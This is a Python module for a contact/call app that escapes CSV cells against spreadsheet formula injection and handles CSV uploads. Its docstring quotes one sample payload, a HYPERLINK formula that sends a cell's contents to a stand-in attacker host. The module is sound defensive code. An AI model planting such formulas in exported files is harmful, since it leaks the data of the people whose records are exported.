"""CSV as spreadsheets read it: every file callfunnel writes goes through ``csv_response``.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a contact named ``=HYPERLINK("http://evil.example/"&B2,"Ivan")``
would run in the supervisor's spreadsheet.  Such a cell is written with a leading ``'`` (OWASP's
advice), except a phone number in E.164 or a plain number, which every importer must get as it
is; ``unescape_cell`` takes the ``'`` off again when a file is imported.
"""

import csv
import io
import re
from collections.abc import Iterable

from fastapi import Request
from fastapi.responses import Response

from app.errors import Unprocessable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# For a route's ``responses``: its 200 may be CSV.
CSV_RESPONSE = {200: {"description": "CSV (UTF-8)", "content": {"text/csv": {"schema": {"type": "string"}}}}}
MAX_UPLOAD_BYTES = 50_000_000
_PLAIN = re.compile(r"\+\d{1,15}|[+-]?\d+(\.\d+)?")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The cell as it was before ``safe_cell``: a leading ``'`` goes only where a formula start follows."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_START) else text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue()


def csv_response(rows: Iterable[Iterable[object]], filename: str) -> Response:
    return Response(
        csv_text(rows),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


async def uploaded_text(request: Request) -> str:
    """A CSV file sent as the request body (``Content-Type: text/csv``), as text."""
    body = await request.body()
    if len(body) > MAX_UPLOAD_BYTES:
        raise Unprocessable(f"the file is over {MAX_UPLOAD_BYTES // 1_000_000} MB; split it")
    try:
        return body.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise Unprocessable("the file is not UTF-8 text") from None
